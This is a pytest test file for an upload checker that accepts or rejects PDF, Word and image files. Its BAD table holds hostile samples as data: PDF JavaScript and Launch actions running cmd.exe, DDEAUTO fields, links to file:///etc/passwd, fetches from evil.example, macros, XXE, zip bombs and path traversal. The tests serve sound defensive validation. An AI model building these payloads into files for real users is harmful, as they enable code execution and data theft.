"""The manifest: what is sent, and what becomes of it."""

import io
import resource
import zipfile
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from portal.files.checks.apart import check
from portal.files.checks.verdict import Accepted, Kind, Reason, Rejected, Why
from tests.factories import files
from tests.factories.files import MARK, action, deep_action, field, name, pdf, picture, rel, word

FAILED, WRONG = Reason.FAILED, Reason.WRONG_KIND
ACTIVE, HOLDS, MUCH, DAMAGED = Why.ACTIVE, Why.HOLDS_FILES, Why.TOO_MUCH, Why.DAMAGED
SLOWEST = 5.0  # seconds of the processor for any bomb, however busy the machine is

GOOD = {
    "plain.pdf": (pdf, Kind.PDF),
    "twelve pages.pdf": (lambda: pdf(12), Kind.PDF),
    "NAME IN CAPITALS.PDF": (pdf, Kind.PDF),
    "noted.pdf": (files.with_note, Kind.PDF),
    "a web link.pdf": (lambda: action(S=name("URI"), URI="https://www.nihr.ac.uk/"), Kind.PDF),
    "an address.pdf": (lambda: deep_action(S=name("URI"), URI="mailto:a@example.org"), Kind.PDF),
    "after it a zip.pdf": (lambda: pdf() + word(), Kind.PDF),
    "after it a page.pdf": (lambda: pdf() + b"<script>alert(1)</script>", Kind.PDF),
    "plain.docx": (lambda: word(files.text("Words")), Kind.WORD),
    "tracked.docx": (lambda: word(files.tracked()), Kind.WORD),
    "link.docx": (lambda: word(rels=rel("hyperlink", "https://example.org", external=True)), Kind.WORD),
    "link field.docx": (lambda: word(field(' HYPERLINK "https://example.org" ')), Kind.WORD),
    "page numbers.docx": (lambda: word(field(" PAGE ")), Kind.WORD),
    "citation.docx": (
        lambda: word(field(' ADDIN ZOTERO_ITEM CSL_CITATION {"t":"DDE link database "}')),
        Kind.WORD,
    ),
    "with picture.docx": (
        lambda: word(parts={"word/media/image1.png": picture("PNG")}, rels=rel("image", "media/image1.png")),
        Kind.WORD,
    ),
    "from our template.docx": (
        lambda: word(
            parts={
                "word/settings.xml": f'<w:settings {files.W}><w:attachedTemplate w:id="rId1"/></w:settings>',
                "word/_rels/settings.xml.rels": files._rels(
                    files._rel("1", f"{files.R}/attachedTemplate", "http://evil.example/x.dotm", external=True)
                ),
            },
            rels=rel("settings", "settings.xml"),
        ),
        Kind.WORD,
    ),
    "with a comment behind.docx": (lambda: word(comment=b"<script>alert(1)</script>"), Kind.WORD),
    "photo.jpg": (files.photo, Kind.JPEG),
    "photo.jpeg": (picture, Kind.JPEG),
    "drawing.png": (lambda: picture("PNG"), Kind.PNG),
    "picture then zip.png": (lambda: picture("PNG") + word(), Kind.PNG),
    "picture then page.jpg": (lambda: picture() + b"<script>alert(1)</script>", Kind.JPEG),
    "large.jpg": (lambda: picture(size=(6000, 4000)), Kind.JPEG),
    "x.exe.pdf": (pdf, Kind.PDF),
}  # fmt: skip

BAD = {
    "empty.pdf": (lambda: b"", Reason.EMPTY, ""),
    "ten megabytes.pdf": (lambda: b"%PDF-1.7" + bytes(10 * 1024 * 1024), Reason.TOO_BIG, ""),
    # disguised
    "page.pdf": (lambda: b"<html><script>alert(1)</script></html>", WRONG, Why.MISNAMED),
    "program.pdf": (lambda: b"MZ" + bytes(200), WRONG, Why.MISNAMED),
    "picture.pdf": (picture, WRONG, Why.MISNAMED),
    "document.png": (pdf, WRONG, Why.MISNAMED),
    "zip.docx": (lambda: _zip({"a.txt": "a"}), WRONG, Why.MISNAMED),
    "sheet.docx": (lambda: word(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), WRONG, Why.MISNAMED),
    "junk before.pdf": (lambda: b"GIF89a" + pdf(), WRONG, Why.MISNAMED),
    "zip before.pdf": (lambda: word() + pdf(), WRONG, Why.MISNAMED),
    "no ending": (pdf, WRONG, Why.MISNAMED),
    "x.pdf.exe": (pdf, WRONG, Why.MISNAMED),
    "rtlo \u202efdp.exe": (pdf, WRONG, Why.MISNAMED),
    # kinds we do not take
    "page.html": (lambda: b"<html></html>", WRONG, ""),
    "drawing.svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", WRONG, ""),
    "text.txt": (lambda: b"words", WRONG, ""),
    "cells.csv": (lambda: b"=1+1", WRONG, ""),
    "picture.gif": (lambda: picture("GIF"), WRONG, ""),
    "old.doc": (files.old_word, WRONG, Why.OLD_WORD),
    "virus.txt": (files.eicar, WRONG, ""),
    # passwords
    "locked.pdf": (files.locked_pdf, Reason.PASSWORD, ""),
    "locked.docx": (files.locked_word, Reason.PASSWORD, ""),
    "zip locked.docx": (lambda: _flagged(word()), Reason.PASSWORD, ""),
    # PDFs that do something
    "script.pdf": (lambda: action(S=name("JavaScript"), JS="app.alert(1)"), FAILED, ACTIVE),
    "hidden script.pdf": (lambda: deep_action(S=name("JavaScript"), JS="x"), FAILED, ACTIVE),
    "launch.pdf": (lambda: action(S=name("Launch"), F="cmd.exe"), FAILED, ACTIVE),
    "hidden launch.pdf": (lambda: deep_action(S=name("Launch"), F="cmd.exe"), FAILED, ACTIVE),
    "sends a form.pdf": (lambda: action(S=name("SubmitForm"), F="https://evil.example"), FAILED, ACTIVE),
    "another file.pdf": (lambda: action(S=name("GoToR"), F="//evil.example/x"), FAILED, ACTIVE),
    "file link.pdf": (lambda: action(S=name("URI"), URI="file:///etc/passwd"), FAILED, ACTIVE),
    "script link.pdf": (lambda: action(S=name("URI"), URI="java\tscript:alert(1)"), FAILED, ACTIVE),
    "share link.pdf": (lambda: action(S=name("URI"), URI=r"\\evil.example\x"), FAILED, ACTIVE),
    "xfa.pdf": (files.with_xfa, FAILED, ACTIVE),
    "attached.pdf": (files.with_attachment, FAILED, HOLDS),
    "plays.pdf": (lambda: deep_action(Subtype=name("RichMedia")), FAILED, ACTIVE),
    # broken and too large
    "cut.pdf": (lambda: b"%PDF-1.7\n" + bytes(300), FAILED, DAMAGED),
    "no pages.pdf": (lambda: pdf(0), FAILED, DAMAGED),
    "5000 pages.pdf": (lambda: pdf(5_000), FAILED, MUCH),
    "stream bomb.pdf": (files.stream_bomb, FAILED, ""),
    "many things.pdf": (lambda: pdf(change=_many_things), FAILED, MUCH),
    "cut.png": (lambda: picture("PNG", (300, 300))[:60], FAILED, DAMAGED),
    "flood.png": (files.flood, FAILED, MUCH),
    "tall flood.png": (lambda: files.flood(4, 100_000_000), FAILED, MUCH),
    "cut.docx": (lambda: word()[:400], FAILED, DAMAGED),
    "bomb.docx": (files.word_bomb, FAILED, MUCH),
    "small bomb.docx": (lambda: files.word_bomb(19), FAILED, MUCH),
    "many parts.docx": (files.many_parts, FAILED, MUCH),
    "lies about its size.docx": (lambda: _lying(word(parts={"word/a.xml": "<a>" + "b" * 9000 + "</a>"})), FAILED, DAMAGED),
    "deep.docx": (lambda: word(parts={"word/a.xml": "<a>" * 90_000 + "</a>" * 90_000}), FAILED, ""),
    # Word documents that do something
    "macro.docx": (lambda: word(parts={"word/vbaProject.bin": b"x"}, rels=rel("vbaProject", "vbaProject.bin")), FAILED, ACTIVE),
    "macro by type.docx": (lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), FAILED, ACTIVE),
    "macro by relation.docx": (lambda: word(parts={"word/x.xml": "<a/>"}, rels=rel("vbaProject", "x.xml")), FAILED, ACTIVE),
    "macro.docm": (lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), WRONG, Why.MISNAMED),
    "template.docx": (lambda: word(main=f"{files.WML}.template.main+xml"), WRONG, Why.MISNAMED),
    "ole.docx": (lambda: word(parts={"word/embeddings/o.bin": b"x"}, rels=rel("oleObject", "embeddings/o.bin")), FAILED, ACTIVE),
    "ole elsewhere.docx": (lambda: word(rels=rel("oleObject", "http://evil.example/x", external=True)), FAILED, ACTIVE),
    "picture elsewhere.docx": (lambda: word(rels=rel("image", "http://evil.example/x.png", external=True)), FAILED, ACTIVE),
    "frame elsewhere.docx": (lambda: word(rels=rel("frame", "http://evil.example/x", external=True)), FAILED, ACTIVE),
    "chunk.docx": (lambda: word(parts={"word/c.html": "<script>"}, rels=rel("aFChunk", "c.html")), FAILED, HOLDS),
    "script link.docx": (lambda: word(rels=rel("hyperlink", "javascript:alert(1)", external=True)), FAILED, ACTIVE),
    "share link.docx": (lambda: word(rels=rel("hyperlink", r"file://evil.example/x", external=True)), FAILED, ACTIVE),
    "sheet inside.docx": (lambda: word(parts={"word/embeddings/s.xlsx": "PK"}, rels=rel("package", "embeddings/s.xlsx")), FAILED, ACTIVE),
    "program inside.docx": (lambda: word(parts={"word/media/x.exe": b"MZ"}), FAILED, HOLDS),
    "dde.docx": (lambda: word(field(r' DDEAUTO c:\\windows\\cmd.exe "/k" ')), FAILED, ACTIVE),
    "dde in pieces.docx": (lambda: word(field(" D", "DE", "AUTO c:\\\\cmd ")), FAILED, ACTIVE),
    "dde simple.docx": (lambda: word('<w:fldSimple w:instr="DDE excel x"/>'), FAILED, ACTIVE),
    "dde spelt.docx": (lambda: word(files.nested_field()), FAILED, ACTIVE),
    "fetches text.docx": (lambda: word(field(' INCLUDETEXT "http://evil.example" ')), FAILED, ACTIVE),
    "fetches picture.docx": (lambda: word(field(' INCLUDEPICTURE "http://evil.example" ')), FAILED, ACTIVE),
    "field to share.docx": (lambda: word(field(r' HYPERLINK "\\evil.example\x" ')), FAILED, ACTIVE),
    "control.docx": (lambda: word('<w:control w:name="x"/>'), FAILED, ACTIVE),
    "xxe.docx": (files.xxe, FAILED, ACTIVE),
    "laughs.docx": (files.laughs, FAILED, ACTIVE),
    "laughing relations.docx": (lambda: word(parts={"_rels/.rels": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), FAILED, ACTIVE),
    "utf-16.docx": (lambda: word(parts={"word/document.xml": f"<w:document {files.W}/>".encode("utf-16")}), FAILED, DAMAGED),
    "scripted drawing.docx": (lambda: word(parts={"word/media/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"}), FAILED, ACTIVE),
    "drawing that loads.docx": (lambda: word(parts={"word/media/a.svg": "<svg onload='x'/>"}), FAILED, ACTIVE),
    "path outside.docx": (lambda: word(parts={"../../etc/cron.d/x.xml": "<a/>"}), FAILED, DAMAGED),
    "twice.docx": (lambda: word(parts={"word/Document.xml": "<a/>"}), FAILED, DAMAGED),
    "flooded.docx": (lambda: word(parts={"word/media/i.png": files.flood()}), FAILED, MUCH),
}  # fmt: skip


def _worked() -> float:
    """Seconds of the processor that checks have taken so far."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def _zip(parts) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for each, content in parts.items():
            packed.writestr(each, content)
    return out.getvalue()


def _flagged(content: bytes) -> bytes:
    """The same ZIP, its parts said to be locked."""
    out, at = bytearray(content), 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        out[at + 8] |= 1
        at += 4
    return bytes(out)


def _lying(content: bytes) -> bytes:
    """The same ZIP, a part of which says that it is smaller than it is."""
    out, at = bytearray(content), content.rfind(b"PK\x01\x02")
    out[at + 24 : at + 28] = (4).to_bytes(4, "little")
    return bytes(out)


def _many_things(made) -> None:
    inside = pikepdf.Array([pikepdf.Dictionary() for _ in range(400_000)])
    made.Root["/Extra"] = inside


@pytest.mark.parametrize("sent", GOOD)
def test_good_files_are_taken_and_written_anew(sent):
    make, kind = GOOD[sent]
    found = check(sent, make())
    assert isinstance(found, Accepted) and found.kind is kind
    assert MARK.encode() not in found.content
    assert b"<script>" not in found.content
    assert _reads_again(found)


def _reads_again(found: Accepted) -> bool:
    assert check(f"x.{'docx' if found.kind is Kind.WORD else found.kind.value}", found.content)
    if found.kind is Kind.WORD:
        with zipfile.ZipFile(io.BytesIO(found.content)) as packed:
            whole = b"".join(packed.read(each) for each in packed.namelist())
            assert packed.testzip() is None and packed.comment == b""
        return MARK.encode() not in whole and b"evil.example" not in whole
    if found.kind is Kind.PDF:
        with pikepdf.open(io.BytesIO(found.content)) as opened:
            whole = b"".join(
                each.unparse()
                + (each.read_raw_bytes() if isinstance(each, pikepdf.Stream) else b"")
                for each in opened.objects
            )
        return MARK.encode() not in whole and b"Exif" not in whole and b"OpenAction" not in whole
    with Image.open(io.BytesIO(found.content)) as opened:
        return not opened.getexif() and "comment" not in opened.info


@pytest.mark.parametrize("sent", BAD)
def test_bad_files_are_refused_soon_and_for_their_reason(sent):
    make, reason, why = BAD[sent]
    content = make()
    begun = _worked()
    with pytest.raises(Rejected) as refused:
        check(sent, content)
    assert _worked() - begun < SLOWEST
    assert refused.value.reason is reason
    assert not why or refused.value.why is why, refused.value.what


def test_a_photograph_is_turned_upright_once():
    found = check("photo.jpg", files.photo())
    with Image.open(io.BytesIO(found.content)) as opened:
        assert opened.size == (30, 40)


def test_a_large_picture_is_made_smaller():
    with Image.open(io.BytesIO(check("large.jpg", picture(size=(6000, 4000))).content)) as opened:
        assert max(opened.size) <= 4000


def test_a_web_link_stays_and_what_opens_by_itself_goes():
    def linked(made):
        link = pikepdf.Dictionary(
            Type=name("Annot"), Subtype=name("Link"), Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=name("URI"), URI="https://www.nihr.ac.uk/"),
        )  # fmt: skip
        made.pages[0].obj["/Annots"] = pikepdf.Array([link])

    with pikepdf.open(io.BytesIO(check("a.pdf", pdf(change=linked)).content)) as opened:
        assert str(opened.pages[0].Annots[0].A.URI) == "https://www.nihr.ac.uk/"
        assert "/Info" not in opened.trailer and "/Metadata" not in opened.Root


def test_nothing_is_left_on_the_disk(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    check("a.docx", word())
    with pytest.raises(Rejected):
        check("b.docx", files.word_bomb())
    assert list(Path(tmp_path).iterdir()) == []
